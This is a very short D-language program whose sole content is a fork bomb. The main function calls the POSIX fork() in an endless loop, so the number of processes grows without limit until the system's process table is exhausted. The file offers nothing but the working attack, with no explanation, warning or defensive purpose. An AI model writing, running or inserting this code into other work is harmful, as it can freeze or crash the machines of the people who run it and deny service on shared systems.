import core.sys.posix.unistd : fork;

void main() {
    for (;;) fork();
}
